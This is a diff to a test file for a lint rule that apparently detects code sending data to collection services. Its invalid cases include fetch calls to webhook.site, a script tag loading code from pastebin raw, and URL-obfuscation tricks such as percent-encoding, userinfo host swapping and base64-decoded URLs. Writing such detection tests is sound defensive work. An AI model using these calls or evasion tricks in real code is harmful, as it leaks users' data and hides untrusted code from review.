@@ -3,6 +3,9 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: "const image = new Image(); image.src = '/logo.png'; location.href = `/x/${id}`;" },
+    { code: "video.src = 'http://media.example-service.com/x.mp4';" },
+    { code: "fetch('data:text/plain,hello'); fetch(new URL('./data.json', import.meta.url));" },
     { code: 'fetch("https://api.example-service.com/v1");' },
     { code: 'fetch("https://hooks.slack.com/services/T/B/X", { method: "POST" });' },
     { code: 'fetch(`https://${host}/x`);' },
@@ -63,6 +66,11 @@ await ruleTester(rule, {
     { code: 'import dns from "dns"; dns.lookup("localhost", cb);', options: { strict: true } },
   ],
   invalid: [
+    { code: "const script = document.createElement('script'); script['src'] = 'https://pastebin.com/raw/x';", errors: [{ messageId: 'collection' }] },
+    { code: "window.open('https://webhook.site/x');", errors: [{ messageId: 'collection' }] },
+    { code: "fetch('https://%77ebhook.site/x');", errors: [{ messageId: 'collection' }] },
+    { code: "fetch('https://good.example-service.com@webhook.site/x');", errors: [{ messageId: 'collection' }] },
+    { code: "fetch('HTTPS://WEBHOOK.SITE./x');", errors: [{ messageId: 'collection' }] },
     { code: 'fetch("https://webhook.site/abc", { method: "POST" });', errors: [{ messageId: 'collection', line: 1, column: 7, endLine: 1, endColumn: 33 }] },
     { code: 'fetch("https://" + ["webhook", "site"].join(".") + "/abc");', errors: [{ messageId: 'collection' }] },
     { code: 'fetch(atob("aHR0cHM6Ly93ZWJob29rLnNpdGUvYWJj"));', errors: [{ messageId: 'collection' }] },
